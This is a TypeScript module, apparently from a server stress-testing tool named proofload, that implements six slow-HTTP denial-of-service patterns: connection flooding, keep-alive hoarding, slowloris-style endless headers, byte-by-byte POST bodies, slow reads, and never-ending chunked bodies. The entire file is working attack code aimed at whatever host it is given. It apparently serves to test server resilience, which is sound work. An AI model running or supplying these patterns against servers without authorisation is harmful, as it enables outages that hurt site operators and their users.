import type { HoldAction } from '../../model/attack-spec.ts'
import { createStatusEar, requestText } from '../http-text.ts'
import type { Conversation, PatternOf } from '../pattern.ts'

const held = (open: (action: HoldAction, host: string, n: number) => Conversation): PatternOf<HoldAction> => {
  return (action, host) => ({ style: 'held', answerMs: Infinity, open: (n) => open(action, host, n) })
}

/** Connections on which nothing is ever said. */
export const connectionFlood = held(() => ({ hear: createStatusEar() }))

/** One good request on each, and then nothing: kept alive as long as the target keeps them. */
export const idleHoarding = held(({ path }, host) => ({
  opening: requestText({ method: 'GET', path, host, headers: { Connection: 'keep-alive' } }),
  hear: createStatusEar(),
}))

/** The head of a request that never ends: another line now and then. */
export const slowHeaders = held(({ path, everyMs }, host, n) => {
  let line = 0
  return {
    opening: `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: proofload-attack\r\n`,
    drip: { everyMs, next: () => `X-${n}-${line++}: a\r\n` },
    hear: createStatusEar(),
  }
})

/** A body that is announced and sent byte by byte. */
export const slowBody = held(({ path, everyMs, bytes }, host) => ({
  opening: requestText({
    ...{ method: 'POST', path, host },
    headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': String(bytes) },
  }),
  drip: { everyMs, next: () => 'a' },
  hear: createStatusEar(),
}))

/** An answer that is asked for again and again and never read: it stays in the target's memory. */
export const slowRead = held(({ path, everyMs }, host) => {
  const request = requestText({ method: 'GET', path, host, headers: { Connection: 'keep-alive' } })
  return { opening: request, isDeaf: true, drip: { everyMs, next: () => request } }
})

/** A chunked body (RFC 9112, 7.1) that goes on for ever. */
export const endlessBody = held(({ path, everyMs, bytes }, host) => {
  const chunk = `${bytes.toString(16)}\r\n${'a'.repeat(bytes)}\r\n`
  return {
    opening: requestText({
      ...{ method: 'POST', path, host },
      headers: { 'Content-Type': 'application/octet-stream', 'Transfer-Encoding': 'chunked' },
    }),
    drip: { everyMs, next: () => chunk },
    hear: createStatusEar(),
  }
})
